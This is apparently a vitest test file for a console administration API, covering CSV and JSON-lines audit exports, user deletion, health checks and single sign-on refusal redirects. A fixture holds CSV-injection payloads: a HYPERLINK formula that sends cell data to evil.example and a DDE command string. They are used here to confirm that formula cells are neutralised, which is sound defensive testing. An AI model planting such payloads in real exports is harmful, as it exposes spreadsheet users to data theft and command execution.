// The API the console's administration pages use, over HTTP (Fastify inject): the audit log downloaded as CSV
// (RFC 4180, formula cells neutralised per OWASP) and JSON lines with the list's filters, across export pages;
// users searched and deleted (a deleted user's token refused); the system health; where a refused single
// sign-on sends a browser.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AccountError } from '../../../src/accounts/index.js';
import { refusedLocation } from '../../../src/api/oidc-routes.js';
import { basicAuthorization } from '../../../src/auth/index.js';
import { OidcLoginError } from '../../../src/auth/oidc/index.js';
import { parseCsv } from '../../helpers/csv.js';
import { type Harness, PASSWORD, startHarness } from './api-harness.js';

const HOSTILE = {
  actor: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  userAgent: '+cmd|" /C calc"!A0',
  resource: '-2+3',
  detail: '@SUM(1,2)\r\nsecond line, "quoted"',
};

describe('the console administration API', () => {
  let h: Harness;
  const VERSION = (
    JSON.parse(readFileSync(new URL('../../../package.json', import.meta.url), 'utf8')) as { version: string }
  ).version;

  beforeAll(async () => {
    h = await startHarness();
    // More than one export page (1000 events) of one action, and the hostile one among them.
    for (let i = 0; i < 1200; i++) {
      h.audit.record({
        actor: `u${i}`,
        actorKind: 'user',
        action: 'bulk.test',
        resource: `r${i}`,
        result: 'success',
      });
    }
    h.audit.record({ ...HOSTILE, actorKind: 'user', action: 'bulk.test', result: 'failure' });
    h.audit.record({
      actor: 'tab',
      actorKind: 'user',
      action: 'other.test',
      resource: '\tx',
      result: 'success',
    });
  });
  afterAll(() => h?.close());

  it('downloads the filtered audit log as CSV: a header, one record per event, formulas neutralised', async () => {
    const response = await h.request(
      'systemAdmin',
      'GET',
      '/api/v1/audit/export?action=bulk.test&format=csv',
    );
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="berth-audit-[0-9T-]+\.csv"$/,
    );
    const [header, ...rows] = parseCsv(response.body);
    expect(header).toEqual([
      'id',
      'time',
      'actor',
      'actorKind',
      'sourceIp',
      'userAgent',
      'action',
      'resource',
      'result',
      'detail',
    ]);
    expect(rows).toHaveLength(1201);
    expect(new Set(rows.map((row) => row[6]))).toEqual(new Set(['bulk.test']));
    // Newest first, every id once, across the export's pages.
    const ids = rows.map((row) => Number(row[0]));
    expect(new Set(ids).size).toBe(1201);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    const hostile = rows[0] as string[];
    expect(hostile[2]).toBe(`'${HOSTILE.actor}`);
    expect(hostile[5]).toBe(`'${HOSTILE.userAgent}`);
    expect(hostile[7]).toBe(`'${HOSTILE.resource}`);
    expect(hostile[9]).toBe(`'${HOSTILE.detail}`);
    expect(hostile[8]).toBe('failure');
    expect(hostile[1]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    // A plain row is left as it was; an empty source address is an empty field.
    const plain = rows[rows.length - 1] as string[];
    expect(plain.slice(2, 10)).toEqual(['u0', 'user', '', '', 'bulk.test', 'r0', 'success', '']);

    const tab = parseCsv(
      (await h.request('systemAdmin', 'GET', '/api/v1/audit/export?action=other.test&format=csv')).body,
    );
    expect(tab[1]?.[7]).toBe("'\tx");
  });

  it('downloads the same events as JSON lines, unaltered, by default and with format=jsonl', async () => {
    for (const query of ['', '&format=jsonl']) {
      const response = await h.request('systemAdmin', 'GET', `/api/v1/audit/export?action=bulk.test${query}`);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
      expect(response.headers['content-disposition']).toMatch(/\.jsonl"$/);
      const events = response.body
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as { actor: string; detail: string | null });
      expect(events).toHaveLength(1201);
      expect(events[0]).toMatchObject({ actor: HOSTILE.actor, detail: HOSTILE.detail });
    }
    const bad = await h.request('systemAdmin', 'GET', '/api/v1/audit/export?format=xlsx');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().errors[0].message).toMatch(/format/);
  });

  it('searches users by a part of the name or e-mail address', async () => {
    const response = await h.request('systemAdmin', 'GET', '/api/v1/users?q=ALI');
    expect(response.statusCode).toBe(200);
    expect(response.json().items.map((user: { username: string }) => user.username)).toEqual(['alice']);
    expect((await h.request('systemAdmin', 'GET', '/api/v1/users?q=%00')).statusCode).toBe(400);
  });

  it('deletes a user: their personal access token is refused at once; one cannot delete oneself', async () => {
    await h.accounts.createUser({ username: 'dora', password: PASSWORD });
    const { secret } = await h.accounts.createAccessToken({ username: 'dora', name: 'ci' });
    const asDora = { authorization: basicAuthorization('dora', secret) };
    expect((await h.request(asDora, 'GET', '/api/v1/me')).statusCode).toBe(200);
    const deleted = await h.request('systemAdmin', 'DELETE', '/api/v1/users/dora');
    expect(deleted.statusCode, deleted.body).toBe(204);
    expect(h.audit.last()).toMatchObject({ action: 'user.delete', resource: 'user:dora', result: 'success' });
    expect((await h.request(asDora, 'GET', '/api/v1/me')).statusCode).toBe(401);
    expect((await h.request('systemAdmin', 'DELETE', '/api/v1/users/dora')).statusCode).toBe(404);
    const self = await h.request('systemAdmin', 'DELETE', '/api/v1/users/admin');
    expect(self.statusCode).toBe(409);
    expect(self.json().errors[0].message).toMatch(/your own account/);
  });

  it("tells a single sign-on user whether they have a CLI secret (the account page's question)", async () => {
    const profile = {
      issuer: 'https://idp.test',
      subject: 'sub-olga',
      username: 'olga',
      email: null,
      groups: [],
    };
    await h.accounts.signInWithOidc(profile, '');
    const { secret, createdAt } = await h.accounts.createCliSecret('olga');
    const me = await h.request({ authorization: basicAuthorization('olga', secret) }, 'GET', '/api/v1/me');
    expect(me.json()).toMatchObject({ source: 'oidc', cliSecret: { createdAt } });
    await h.accounts.revokeCliSecret('olga');
    const { secret: token } = await h.accounts.createAccessToken({ username: 'olga', name: 'ci' });
    const after = await h.request({ authorization: basicAuthorization('olga', token) }, 'GET', '/api/v1/me');
    expect(after.json()).toMatchObject({ source: 'oidc', cliSecret: null });
  });

  it('reports the system health: the database probed now, the version and drivers', async () => {
    const response = await h.request('systemAdmin', 'GET', '/api/v1/system/health');
    expect(response.statusCode).toBe(200);
    const health = response.json();
    expect(health).toMatchObject({
      status: 'ready',
      version: VERSION,
      metadata: 'sqlite',
      storage: 'filesystem',
    });
    expect(health.checks).toEqual([{ name: 'metadata', up: true, error: null, ms: expect.any(Number) }]);
  });

  it('sends a browser whose sign-on was refused to the console page with a reason code, never a message', () => {
    const none = new URLSearchParams();
    expect(refusedLocation(new OidcLoginError('STATE_MISMATCH', 'anything'), none)).toBe(
      '/sign-in/refused?reason=STATE_MISMATCH',
    );
    expect(refusedLocation(new AccountError('FORBIDDEN', 'user x is disabled'), none)).toBe(
      '/sign-in/refused?reason=ACCOUNT_DISABLED',
    );
    expect(refusedLocation(new AccountError('CONFLICT', 'taken'), none)).toBe(
      '/sign-in/refused?reason=NAME_TAKEN',
    );
    expect(refusedLocation(new Error('boom'), none)).toBe('/sign-in/refused?reason=FAILED');
    const refused = new OidcLoginError('PROVIDER_REFUSED', 'no');
    expect(refusedLocation(refused, new URLSearchParams({ error: 'access_denied' }))).toBe(
      '/sign-in/refused?reason=PROVIDER_REFUSED&error=access_denied',
    );
    // The provider's error code is passed on only when it is a plain OAuth code.
    expect(refusedLocation(refused, new URLSearchParams({ error: 'Call 555-0100 now' }))).toBe(
      '/sign-in/refused?reason=PROVIDER_REFUSED',
    );
  });
});
